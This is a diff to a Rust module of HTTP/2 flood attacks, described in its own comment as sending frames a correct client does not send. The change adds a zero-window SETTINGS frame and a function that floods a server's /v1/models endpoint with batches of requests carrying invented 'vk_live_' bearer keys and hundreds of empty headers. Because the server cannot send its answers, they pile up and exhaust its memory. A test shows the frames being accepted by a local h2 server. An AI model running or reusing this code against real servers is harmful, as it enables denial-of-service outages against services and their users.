@@ -1,10 +1,11 @@
 //! Floods over HTTP/2 (RFC 9113), in frames that a correct client does not send.
 
 use std::io;
+use std::time::Duration;
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 use tokio::net::TcpStream;
 
-/// The connection preface and an empty SETTINGS frame.
+/// The connection preface, and a SETTINGS frame without a setting.
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
 /// `:method: GET`, `:scheme: http`, `:path: /`, `:authority: a`, as HPACK (RFC 7541).
 const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
@@ -12,6 +13,13 @@ const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
 const FIELD_BYTES: usize = 100;
 /// Headers in a frame.
 const FIELDS: usize = 100;
+/// The connection preface, and a SETTINGS frame that leaves no room for the body of an answer.
+const WITHOUT_WINDOW: &[u8] =
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00";
+/// Empty headers of a request whose answer is not read: they take most memory for their bytes.
+const EMPTY_FIELDS: usize = 300;
+/// Time in which a request with a valid key is answered.
+const ANSWER_WAIT: Duration = Duration::from_secs(1);
 /// Most frames of a head without an end: 10 GB.
 const FRAMES_MAX: usize = 1_000_000;
 /// Requests that are sent and cancelled in one write.
@@ -78,6 +86,44 @@ pub(crate) async fn continuation(stream: &mut TcpStream) -> io::Result<()> {
     tokio::try_join!(flood, until_closed(&mut reader)).map(drop)
 }
 
+/// Sends [`BATCH`] requests with invented keys at once, whose answers have no room to be sent; before them, one with
+/// `key`.
+///
+/// # Errors
+/// When the server ends the connection.
+pub(crate) async fn unread(stream: &mut TcpStream, key: Option<&str>) -> io::Result<()> {
+    stream.write_all(WITHOUT_WINDOW).await?;
+    if let Some(key) = key {
+        stream.write_all(&list_of_models(1, key, 0)).await?;
+        tokio::time::sleep(ANSWER_WAIT).await;
+        stream.write_all(&frame(RST_STREAM, 0, 1, &CANCEL)).await?;
+    }
+    let requests = (1..=BATCH).flat_map(|number| {
+        let key = format!("vk_live_{number:064x}");
+        list_of_models(2 * number + 1, &key, EMPTY_FIELDS)
+    });
+    stream.write_all(&requests.collect::<Vec<u8>>()).await?;
+    until_closed(stream).await
+}
+
+/// A request for the list of models with a key and a number of empty headers.
+fn list_of_models(stream: u32, key: &str, empty_fields: usize) -> Vec<u8> {
+    let mut head = HEAD[..2].to_vec();
+    let bearer = format!("Bearer {key}");
+    for (name, value) in [
+        (":path", "/v1/models"),
+        (":authority", "a"),
+        ("authorization", &bearer),
+    ] {
+        head.extend([0, name.len() as u8]);
+        head.extend(name.as_bytes());
+        head.push(value.len() as u8);
+        head.extend(value.as_bytes());
+    }
+    head.extend([0, 1, b'e', 0].repeat(empty_fields));
+    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)
+}
+
 /// Reads until the server closes the connection, which is an error, so that the sending half ends too.
 async fn until_closed(reader: &mut (impl tokio::io::AsyncRead + Unpin)) -> io::Result<()> {
     let mut some = [0; 4096];
@@ -97,20 +143,25 @@ mod tests {
         );
     }
 
-    /// An HTTP/2 server of the library accepts the head.
+    /// An HTTP/2 server of the library accepts the heads.
     #[tokio::test]
-    async fn the_head_is_a_request() {
+    async fn the_heads_are_requests() {
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
         let address = listener.local_addr().unwrap();
         let server = tokio::spawn(async move {
             let (stream, _) = listener.accept().await.unwrap();
             let mut connection = h2::server::handshake(stream).await.unwrap();
-            let (request, _) = connection.accept().await.unwrap().unwrap();
-            (request.method().clone(), request.uri().path().to_owned())
+            let mut paths = Vec::new();
+            for _ in 0..2 {
+                let (request, _) = connection.accept().await.unwrap().unwrap();
+                paths.push(request.uri().path().to_owned());
+            }
+            paths
         });
         let mut stream = TcpStream::connect(address).await.unwrap();
-        let frames = [PREFACE, &frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD)].concat();
+        let head = frame(HEADERS, END_HEADERS | END_STREAM, 1, HEAD);
+        let frames = [WITHOUT_WINDOW, &head, &list_of_models(3, "vk_live_1", 2)].concat();
         stream.write_all(&frames).await.unwrap();
-        assert_eq!(server.await.unwrap(), (http::Method::GET, "/".to_owned()));
+        assert_eq!(server.await.unwrap(), ["/", "/v1/models"]);
     }
 }
